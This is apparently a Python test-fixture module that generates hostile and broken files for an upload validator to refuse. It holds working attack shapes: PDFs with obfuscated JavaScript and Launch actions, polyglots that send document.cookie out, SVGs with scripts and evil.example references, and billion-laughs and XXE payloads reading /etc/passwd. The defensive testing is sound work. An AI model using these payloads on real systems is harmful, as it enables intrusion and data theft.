"""Hostile and broken files, made in code (no binary fixtures in the repository).

Every builder returns bytes. PDFs are written by hand with a correct cross-reference table (or by pikepdf where a
compressed object stream or encryption is the point), so that each one is refused for the one reason it carries.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image

# --- PDF -------------------------------------------------------------------------------------------------------------


def _xref_and_trailer(
    offsets: dict[int, int], start: int, size: int, extra: bytes = b"", freed=(), root: int = 1
) -> bytes:
    """A classic cross-reference section for the objects at `offsets` (and `freed` ones), then the trailer."""
    lines = [b"xref\n"]
    numbers = sorted(offsets)
    if extra == b"":  # the first revision: one subsection from object 0
        lines.append(b"0 %d\n0000000000 65535 f \n" % (max(numbers) + 1))
        lines += [b"%010d 00000 n \n" % offsets[n] for n in range(1, max(numbers) + 1)]
    else:  # an update section: one subsection per object
        for n in numbers:
            lines.append(b"%d 1\n%010d 00000 n \n" % (n, offsets[n]))
        for n in freed:
            lines.append(b"%d 1\n0000000000 00001 f \n" % n)
    trailer = b"trailer\n<</Size %d/Root %d 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, extra, start)
    return b"".join(lines) + trailer


def pdf(*, catalog: bytes = b"", page: bytes = b"", more: tuple[bytes, ...] = ()) -> bytes:
    """One page; `catalog` and `page` are extra entries of those dictionaries, `more` are objects 4, 5, …"""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<<>>" + page + b">>",
        *more,
    ]
    out, offsets = b"%PDF-1.7\n", {}
    for number, body in enumerate(objects, 1):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    return out + _xref_and_trailer(offsets, len(out), len(objects) + 1)


def incremental_update(
    base: bytes, objects: dict[int, bytes], freed: tuple[int, ...] = (), root: int = 1, size: int = 0
) -> bytes:
    """`base` with a later revision appended that replaces (or adds) `objects` and deletes `freed` ones, as a PDF
    editor saves it."""
    previous = int(base.rsplit(b"startxref", 1)[1].split()[0])
    out, offsets = base, {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    size = max(size, max([*objects, *freed, 3]) + 1)
    return out + _xref_and_trailer(offsets, len(out), size, extra=b"/Prev %d" % previous, freed=freed, root=root)


CLEAN_CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
JS_ACTION = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def pdf_with_obfuscated_javascript() -> bytes:
    return pdf(catalog=b"/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>")


def pdf_with_obfuscated_launch() -> bytes:
    return pdf(catalog=b"/OpenAction<</S/L#61unch/F(cmd.exe)>>")


def pdf_with_javascript_in_an_object_stream() -> bytes:
    """The OpenAction's JavaScript sits in a compressed object stream: no name is visible in the raw bytes."""
    document = pikepdf.new()
    document.add_blank_page()
    document.Root.OpenAction = document.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    )
    out = io.BytesIO()
    document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    return out.getvalue()


def pdf_with_javascript_in_an_update() -> bytes:
    """A clean first revision; the appended second revision gives the catalog an OpenAction."""
    return incremental_update(pdf(), {1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", 4: JS_ACTION})


def pdf_with_javascript_in_a_replaced_revision() -> bytes:
    """Revision 2 adds a script, revision 3 takes it out again: only a reader that repairs the file sees it."""
    with_script = incremental_update(pdf(), {1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", 4: JS_ACTION})
    return incremental_update(with_script, {1: CLEAN_CATALOG}, freed=(4,))


def pdf_with_javascript_in_a_replaced_object_stream() -> bytes:
    """The script sits compressed in an object stream, and a later revision replaces the catalog and deletes the
    action: neither the live document nor the raw bytes show it, only the decoded object stream."""
    base = pdf_with_javascript_in_an_object_stream()  # catalog 2 0, its OpenAction 5 0 in object stream 1 0
    return incremental_update(base, {2: b"<</Type/Catalog/Pages 3 0 R>>"}, freed=(5,), root=2, size=8)


def pdf_with_embedded_file() -> bytes:
    payload = b"MZ\x90\x00 not a real program"
    return pdf(
        catalog=b"/Names<</EmbeddedFiles<</Names[(setup.exe)4 0 R]>>>>",
        more=(
            b"<</Type/Filespec/F(setup.exe)/EF<</F 5 0 R>>>>",
            b"<</Type/EmbeddedFile/Length %d>>stream\n%s\nendstream" % (len(payload), payload),
        ),
    )


def pdf_with_page_open_action() -> bytes:
    """An additional action (/AA) run when the page opens, written with escapes."""
    return pdf(page=b"/#41A<</O<</S/JavaScript/JS(app.alert\\(1\\))>>>>")


def pdf_with_xfa_form() -> bytes:
    return pdf(catalog=b"/AcroForm<</Fields[]/XFA 4 0 R>>", more=(b"<</Length 0>>stream\n\nendstream",))


def pdf_with_javascript_link() -> bytes:
    """A link annotation whose URI is javascript:…"""
    return pdf(page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A<</S/URI/URI(javascript:alert\\(1\\))>>>>]")


def pdf_with_web_link() -> bytes:
    """A plain https link: accepted (it opens only when clicked, and the reader asks first)."""
    return pdf(page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A<</S/URI/URI(https://www.gov.cn/)>>>>]")


def pdf_with_submit_form() -> bytes:
    return pdf(catalog=b"/OpenAction<</S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>>>")


def encrypted_pdf(*, user_password: str) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    out = io.BytesIO()
    document.save(out, encryption=pikepdf.Encryption(owner="owner-secret", user=user_password))
    return out.getvalue()


def truncated_pdf() -> bytes:
    """An upload cut off half way: no end-of-file marker."""
    return pdf()[:120]


def damaged_pdf() -> bytes:
    """Starts and ends like a PDF, but holds no document."""
    return b"%PDF-1.7\n" + b"\x00\x17garbage" * 40 + b"\n%%EOF\n"


def html_inside_pdf_header() -> bytes:
    """A polyglot: a PDF header, then a web page with a script."""
    return b"%PDF-1.4\n<html><body><script>fetch('/x?c='+document.cookie)</script></body></html>\n%%EOF\n"


# --- images ----------------------------------------------------------------------------------------------------------


def png(width: int = 32, height: int = 32) -> bytes:
    out = io.BytesIO()
    Image.new("RGBA", (width, height), (208, 2, 27, 255)).save(out, "PNG")
    return out.getvalue()


def jpeg(width: int = 32, height: int = 32) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(out, "JPEG")
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_declaring(width: int, height: int) -> bytes:
    """A PNG header that declares width × height, with a few bytes of image data: cheap to make, never decoded."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit greyscale
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _chunk(b"IEND", b"")
    )


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small real JPEG whose frame header (SOF0) is rewritten to declare width × height."""
    data = bytearray(jpeg(16, 16))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def truncated_jpeg() -> bytes:
    return jpeg(64, 64)[:200]


def png_header_then_html() -> bytes:
    """A polyglot: the PNG signature, then a web page with a script."""
    return b"\x89PNG\r\n\x1a\n<html><script>alert(document.domain)</script></html>"


def jpeg_header_then_pdf() -> bytes:
    """A polyglot: JPEG start-of-image, then a PDF with a script."""
    return b"\xff\xd8\xff\xe0" + pdf_with_obfuscated_javascript()


def jpeg_with_zip_appended() -> bytes:
    """GIFAR-like: a valid JPEG, then a ZIP archive (a Java applet or an HTML page) appended after it."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("index.html", "<script>alert('ZIPPAYLOAD')</script>")
    return jpeg() + archive.getvalue()


# --- programs and web pages under other names ------------------------------------------------------------------------

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100
MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 50 + b"PE\x00\x00" + b"\x00" * 100
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


# --- SVG -------------------------------------------------------------------------------------------------------------

SVG_OPEN = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100">'
CLEAN_SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    + b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    + b' xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" viewBox="0 0 100 100">'
    + b'<sodipodi:namedview pagecolor="#ffffff"/><metadata><rdf>editor data</rdf></metadata><!-- a comment -->'
    + b'<defs><path id="arc" d="M10 50 A40 40 0 0 1 90 50"/></defs>'
    + b'<circle cx="50" cy="50" r="45" fill="none" stroke="#d0021b" stroke-width="4" sodipodi:type="arc"/>'
    + '<text font-size="10"><textPath xlink:href="#arc">育才路社区居民委员会</textPath></text>'.encode()
    + b'<use xlink:href="#arc" transform="translate(0 20)"/></svg>'
)


def svg(body: bytes, open_tag: bytes = SVG_OPEN) -> bytes:
    return open_tag + body + b"</svg>"


SVG_SCRIPT = svg(b"<script>alert(document.cookie)</script><circle r='4'/>")
SVG_ONLOAD = svg(b"<circle r='4'/>", SVG_OPEN[:-1] + b' onload="alert(1)">')
SVG_SET_JAVASCRIPT = svg(
    b'<g id="c"><circle r="40"/></g>'
    b'<use xlink:href="#c"><set attributeName="xlink:href" to="javascript:alert(1)"/></use>'
)
SVG_SET_HREF = svg(b'<use href="#c"><set attributeName="href" to="javascript:alert(1)" begin="0s"/></use>')
SVG_ANIMATE = svg(b'<circle r="4"><animate attributeName="r" values="4;40" dur="1s"/></circle>')
SVG_EXTERNAL_USE = svg(b'<use xlink:href="https://evil.example/seal.svg#s"/>')
SVG_EXTERNAL_STYLE = svg(b"<circle r='4' style=\"fill:url(https://evil.example/track.png)\"/>")
SVG_IMPORT_STYLE = svg(b"<style>@import url(https://evil.example/x.css);</style><circle r='4'/>")
SVG_FOREIGN = svg(
    b"<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='https://evil.example'/></foreignObject>"
)
SVG_BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
    + svg(b"<text>&d;&d;&d;&d;&d;&d;&d;&d;</text>")
)
SVG_XXE = b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg(b"<text>&x;</text>")
SVG_USE_CHAIN = svg(
    b'<defs><g id="a"><circle r="1"/><circle r="2"/></g><g id="b"><use xlink:href="#a"/><use xlink:href="#a"/></g>'
    b'<g id="c"><use xlink:href="#b"/><use xlink:href="#b"/></g></defs><use xlink:href="#c"/>'
)
